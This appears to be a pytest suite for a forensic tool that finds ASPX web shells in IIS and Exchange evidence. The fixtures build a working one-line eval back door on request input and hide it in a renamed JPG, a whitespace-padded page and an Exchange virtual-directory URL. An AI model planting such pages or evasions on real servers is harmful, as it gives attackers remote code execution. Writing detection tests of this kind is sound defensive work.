"""Pages among the evidence: found by what they do, wherever they lie, and told with who asked for them."""

import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from exsweep.assess import Settings, rejudge, triage
from exsweep.model import Assessment, Confidence, FileVerdict, Level

NOW = datetime(2021, 3, 9, 14, 5, tzinfo=UTC)
MARK = "EXSWEEP-INERT-FIXTURE"
LOG = """#Software: Microsoft Internet Information Services 10.0
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken
2021-03-01 10:00:00 10.0.0.5 GET /aspnet_client/ab.aspx - 443 - 203.0.113.9 curl 200 0 0 12
2021-03-01 10:00:09 10.0.0.5 POST /aspnet_client/ab.aspx - 443 - 203.0.113.9 curl 200 0 0 15
"""


def shell() -> bytes:
    """A page that would run what it is sent; put together here, so that no file of the checkout is one."""
    sink = "".join(("ev", "al"))
    return (
        f'<%@ Page Language="JScript" %>\n<% /* {MARK} */\n{sink}(Request.Item["k"], "unsafe"); %>'.encode()
    )


def plain() -> bytes:
    return b'<%@ Page Language="C#" %><html><body><%= System.DateTime.UtcNow %></body></html>'


def judged(folder: Path, **more: object) -> Assessment:
    return triage(Settings(evidence=(folder,), now=NOW, **more))  # type: ignore[arg-type]


@pytest.fixture
def site(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence" / "C" / "inetpub" / "wwwroot" / "aspnet_client"
    folder.mkdir(parents=True)
    (folder / "ab.aspx").write_bytes(shell())
    (folder.parent / "status.aspx").write_bytes(plain())
    return tmp_path / "evidence"


def test_a_back_door_on_the_disk_is_a_break_in(site: Path):
    told = judged(site)
    assert told.verdict.level is Level.BROKEN_INTO
    assert told.files is not None
    assert told.files.verdicts == {"malicious": 1, "unremarkable": 1}
    (page,) = told.files.remarkable
    assert page.verdict is FileVerdict.MALICIOUS
    assert any(can.from_request and can.evidence for can in page.capabilities)
    assert {item.rule.id for item in told.findings} >= {"WS-PAGE-BACKDOOR"}


def test_the_page_and_its_requests_are_one_thing(site: Path):
    (site / "u_ex210301.log").write_text(LOG)
    told = judged(site)
    (chain,) = [each for each in told.chains if each.level.rank >= Level.BROKEN_INTO.rank]
    assert chain.actor.addresses == ("203.0.113.9",)
    assert told.files is not None
    requests = told.files.remarkable[0].requests
    assert requests is not None
    assert (requests.count, requests.with_input) == (2, 1)


def test_two_copies_are_two_back_doors(site: Path):
    other = site / "C" / "Exchange Server" / "V15" / "FrontEnd" / "HttpProxy" / "owa" / "auth"
    other.mkdir(parents=True)
    (other / "cd.aspx").write_bytes(shell())
    told = judged(site)
    assert told.files is not None
    assert len(told.files.remarkable) == 2
    assert len([item for item in told.findings if item.rule.id == "WS-PAGE-BACKDOOR"]) == 2


def test_a_zip_gives_the_same_as_the_folder(site: Path, tmp_path: Path):
    packed = tmp_path / "case.zip"
    with zipfile.ZipFile(packed, "w") as archive:
        for file in sorted(site.rglob("*.aspx")):
            archive.write(file, file.relative_to(site).as_posix())
    assert judged(packed).files == judged(site).files


def test_saved_events_judge_pages_again(site: Path, tmp_path: Path):
    out = tmp_path / "out"
    first = judged(site, out=out)
    again = rejudge(Settings(evidence=(out,), now=NOW))
    assert again.files == first.files
    assert again.verdict == first.verdict
    assert again.findings == first.findings


def test_a_renamed_page_is_still_read(site: Path):
    (site / "C" / "inetpub" / "wwwroot" / "logo.jpg").write_bytes(
        b"\xff\xd8\xff\xe0JFIF" + bytes(200) + shell()
    )
    told = judged(site)
    assert told.files is not None
    assert {one.path.rpartition("/")[2] for one in told.files.remarkable} == {"ab.aspx", "logo.jpg"}


def test_your_own_yara_rules_are_asked_of_every_file(tmp_path: Path):
    rules = tmp_path / "mine.yar"
    rules.write_text('rule mine { strings: $a = "tell-tale-of-ours" condition: $a }')
    broken = tmp_path / "broken.yar"
    broken.write_text("rule broken { condition: nothing }")
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / "tool.bin").write_bytes(b"MZ....tell-tale-of-ours....")
    told = judged(folder, yara=(str(rules), str(broken)))
    assert [item.rule.id for item in told.findings] == ["WS-PAGE-FAMILY"]
    assert told.findings[0].fields["Families"] == "yara:mine"
    assert any("broken.yar" in problem for problem in told.rule_problems)


def test_a_page_in_a_quarantine_is_no_break_in_by_itself(tmp_path: Path):
    folder = tmp_path / "evidence" / "C" / "ProgramData" / "Microsoft" / "Windows Defender" / "Quarantine"
    folder.mkdir(parents=True)
    (folder / "x.aspx").write_bytes(shell())
    assert judged(tmp_path / "evidence").verdict.level is Level.SUSPICIOUS


def test_a_padded_page_is_read_at_both_ends(tmp_path: Path):
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / "x.aspx").write_bytes(b" " * (20 << 20) + shell())
    told = judged(folder)
    assert told.files is not None
    assert told.files.remarkable[0].size == (20 << 20) + len(shell())


def test_settings_written_out_as_a_page_are_told_as_both_and_judged_again_alike(tmp_path: Path):
    folder = tmp_path / "evidence" / "inetpub" / "wwwroot" / "aspnet_client"
    folder.mkdir(parents=True)
    sink = "".join(("ev", "al"))
    script = f'<script language="JScript" runat="server">{sink}(Request["k"],"unsafe");/*{MARK}*/</script>'
    rows = (
        "Name : OAB (Default Web Site)",
        "InternalUrl : https://mail/OAB",
        f"ExternalUrl : http://f/{script}",
    )
    (folder / "o.aspx").write_text("\n".join(rows) + "\n")
    first = judged(tmp_path / "evidence", out=tmp_path / "out")
    assert {"WS-FILE-VDIRTEXT", "PL-VDIR-SCRIPT"} <= {item.rule.id for item in first.findings}
    assert len([chain for chain in first.chains if chain.level.rank >= Level.BROKEN_INTO.rank]) == 1
    assert first.verdict.confidence is Confidence.VERY_LIKELY  # one file is one record, however it is read
    again = rejudge(Settings(evidence=(tmp_path / "out",), now=NOW))
    assert (again.findings, again.chains) == (first.findings, first.chains)


def test_a_locked_zip_opens_with_its_password_and_the_password_is_written_nowhere(
    shared_data: Path, tmp_path: Path
):
    locked = shared_data / "event_json" / "proxylogon_ssrf_rce_poc.zip"
    assert judged(locked).verdict.level is Level.CANNOT_TELL
    out = tmp_path / "out"
    told = judged(locked, passwords=(b"wrong", b"infected"), out=out)
    assert told.verdict.level.rank >= Level.BROKEN_INTO.rank
    assert all(b"infected" not in file.read_bytes() for file in out.rglob("*") if file.is_file())


def slow() -> bytes:
    """A page that takes far more steps to follow than a page may: what its last function gives back reaches one more caller a round."""
    functions = "".join(
        f"Function f{n}(a, b)\nx{n} = a & b & y{n}\nf{n} = f{n + 1}(a & x{n}, f{n + 1}(b, x{n}))\nEnd Function\n"
        for n in range(28_000)
    )
    last = 'Function f28000(a, b)\nf28000 = Request.QueryString("a")\nEnd Function'
    code = f'g = GetRef("f0")\nSet o = Server.CreateObject("ADODB.Connection")\n{functions}{last}'
    return f"<%\n' {MARK}\n{code}\n%>".encode()


def test_a_page_that_takes_too_long_is_told_and_not_cleared(tmp_path: Path):
    folder = tmp_path / "evidence" / "C" / "inetpub" / "wwwroot"
    folder.mkdir(parents=True)
    (folder / "status.asp").write_bytes(slow())
    told = judged(tmp_path / "evidence")
    assert told.files is not None
    assert told.files.verdicts == {"suspicious": 1}
    (page,) = told.files.remarkable
    assert any("it takes more work than any real page" in each for each in page.problems)
    assert {item.rule.id for item in told.findings} == {"WS-PAGE-UNFINISHED"}
    (gap,) = [each for each in told.coverage.gaps if each.path and each.path.endswith("status.asp")]
    assert gap.reason.startswith("partial: looked at as a page: it takes more work than any real page")
    assert told.verdict.level is Level.CANNOT_TELL


def test_a_page_that_cannot_be_parsed_is_told_and_not_cleared(tmp_path: Path):
    folder = tmp_path / "evidence" / "C" / "inetpub" / "wwwroot"
    folder.mkdir(parents=True)
    noise = "} ) => ]] ?? switch ((( case }{ " * 40
    (folder / "status.aspx").write_text(
        f'<%@ Page Language="C#" %><!-- {MARK} --><% {noise} new System.IO.StreamReader(x) {noise} %>'
    )
    told = judged(tmp_path / "evidence")
    assert told.files is not None
    assert told.files.verdicts == {"suspicious": 1}
    assert {item.rule.id for item in told.findings} == {"WS-PAGE-UNFINISHED"}
    assert any("could not be read" in gap.reason for gap in told.coverage.gaps)
